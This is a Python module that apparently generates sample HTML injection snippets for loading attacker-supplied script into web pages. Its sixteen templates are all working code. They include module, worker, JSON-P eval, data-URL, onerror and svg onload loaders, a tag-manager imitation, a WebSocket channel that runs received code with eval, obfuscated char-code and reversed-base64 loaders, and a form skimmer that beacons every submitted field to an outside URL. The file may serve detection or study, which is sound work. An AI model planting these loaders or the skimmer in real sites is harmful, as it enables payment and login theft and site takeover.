"""Edition 8's ways of making a page load or run foreign code: ES modules, dynamic import,
workers, JSON-P, data: and blob: URLs, event-handler loaders, service workers, import maps,
tag-manager abuse, preloads, skimmers and obfuscated inline loaders."""

# ruff: noqa: E501 - page markup reads best one element a line

from __future__ import annotations

import base64
import json
import random
from collections.abc import Callable
from dataclasses import dataclass


@dataclass(frozen=True)
class Snippet:
    html: str
    where: str  # head, body-start or body-end


def _module(url: str, rng: random.Random) -> Snippet:
    return Snippet(f'<script type="module" src="{url}"></script>', rng.choice(("head", "body-end")))


def _dynamic_import(url: str, rng: random.Random) -> Snippet:
    code = f"window.addEventListener('load',function(){{import('{url}').catch(function(){{}})}});"
    return Snippet(f'<script type="module">{code}</script>', "body-end")


def _worker(url: str, rng: random.Random) -> Snippet:
    code = f"try{{new Worker(URL.createObjectURL(new Blob([\"importScripts('{url}')\"])))}}catch(e){{}}"
    return Snippet(f"<script>{code}</script>", "body-end")


def _jsonp(url: str, rng: random.Random) -> Snippet:
    cb = rng.choice(("jQuery3710", "__cfg", "wpLazy", "cb_"))
    sep = "&" if "?" in url else "?"
    return Snippet(
        f'<script>function {cb}(d){{eval(d.c)}}</script><script src="{url}{sep}callback={cb}"></script>',
        "body-end",
    )


def _data_url(url: str, rng: random.Random) -> Snippet:
    code = f"var s=document.createElement('script');s.src='{url}';document.head.appendChild(s);"
    encoded = base64.b64encode(code.encode()).decode()
    return Snippet(f'<script src="data:text/javascript;base64,{encoded}"></script>', "head")


def _blob_eval(url: str, rng: random.Random) -> Snippet:
    code = (
        f"fetch('{url}').then(function(r){{return r.text()}}).then(function(t){{var s=document.createElement"
        "('script');s.src=URL.createObjectURL(new Blob([t],{type:'text/javascript'}));document.body.appendChild(s)})"
    )
    return Snippet(f"<script>{code}</script>", "body-end")


def _img_onerror(url: str, rng: random.Random) -> Snippet:
    handler = (
        f"var s=document.createElement('script');s.src='{url}';document.body.appendChild(s);this.remove()"
    )
    return Snippet(f'<img src="/x.gif" width="1" height="1" alt="" onerror="{handler}">', "body-end")


def _svg_onload(url: str, rng: random.Random) -> Snippet:
    handler = f"import('{url}')"
    return Snippet(f'<svg width="0" height="0" onload="{handler}"></svg>', "body-start")


def _service_worker(url: str, rng: random.Random) -> Snippet:
    code = f"if('serviceWorker' in navigator){{navigator.serviceWorker.register('/sw.js?u='+encodeURIComponent('{url}'))}}"
    return Snippet(f"<script>{code}</script>", "body-end")


def _import_map(url: str, rng: random.Random) -> Snippet:
    mapping = json.dumps({"imports": {"analytics": url}})
    return Snippet(
        f'<script type="importmap">{mapping}</script><script type="module">import "analytics";</script>',
        "head",
    )


def _tag_manager(url: str, rng: random.Random) -> Snippet:
    gtm = "GTM-" + "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(7))
    code = (
        "(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});"
        "var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;"
        f"j.src='{url}'+'&id='+i;f.parentNode.insertBefore(j,f);}})(window,document,'script','dataLayer','{gtm}');"
    )
    return Snippet(f"<script>{code}</script>", "head")


def _modulepreload(url: str, rng: random.Random) -> Snippet:
    return Snippet(
        f'<link rel="modulepreload" href="{url}"><script type="module">import("{url}")</script>', "head"
    )


def _skimmer(url: str, rng: random.Random) -> Snippet:
    code = (
        "document.addEventListener('submit',function(e){var f=e.target,o={};"
        "for(var i=0;i<f.elements.length;i++){var x=f.elements[i];if(x.name)o[x.name]=x.value}"
        f"navigator.sendBeacon('{url}',JSON.stringify(o))}},true);"
    )
    return Snippet(f"<script>{code}</script>", "body-end")


def _websocket(url: str, rng: random.Random) -> Snippet:
    wss = "wss://" + url.split("://", 1)[1]
    code = f"(function(){{var k=new WebSocket('{wss}');k.onmessage=function(m){{(0,eval)(m.data)}}}})();"
    return Snippet(f"<script>{code}</script>", "body-end")


def _char_codes(url: str, rng: random.Random) -> Snippet:
    codes = ",".join(str(ord(c)) for c in url)
    code = (
        f"var _u=String.fromCharCode({codes});var _e=document.createElement('scr'+'ipt');"
        "_e.src=_u;document.getElementsByTagName('head')[0].appendChild(_e);"
    )
    return Snippet(f"<script>{code}</script>", "body-end")


def _reversed_atob(url: str, rng: random.Random) -> Snippet:
    packed = base64.b64encode(url.encode()).decode()[::-1]
    code = (
        f"setTimeout(function(){{var u=atob('{packed}'.split('').reverse().join(''));"
        "var t=document.createElement('script');t.src=u;document.body.appendChild(t)},1500);"
    )
    return Snippet(f"<script>{code}</script>", "body-end")


STYLES: dict[str, Callable[[str, random.Random], Snippet]] = {
    "es-module-src": _module,
    "deferred-dynamic-import": _dynamic_import,
    "blob-worker-importscripts": _worker,
    "jsonp-callback-eval": _jsonp,
    "base64-data-url-src": _data_url,
    "fetch-to-blob-url-script": _blob_eval,
    "broken-image-onerror-loader": _img_onerror,
    "svg-onload-import": _svg_onload,
    "service-worker-registration": _service_worker,
    "import-map-bare-specifier": _import_map,
    "container-snippet-new-host": _tag_manager,
    "modulepreload-link": _modulepreload,
    "form-submit-beacon-skimmer": _skimmer,
    "websocket-eval-channel": _websocket,
    "charcode-array-loader": _char_codes,
    "reversed-base64-timeout": _reversed_atob,
}
ENCODED = frozenset({"base64-data-url-src", "charcode-array-loader", "reversed-base64-timeout"})
TARGET = {name: "script" for name in STYLES} | {
    "form-submit-beacon-skimmer": "collect",
    "websocket-eval-channel": "collect",
}
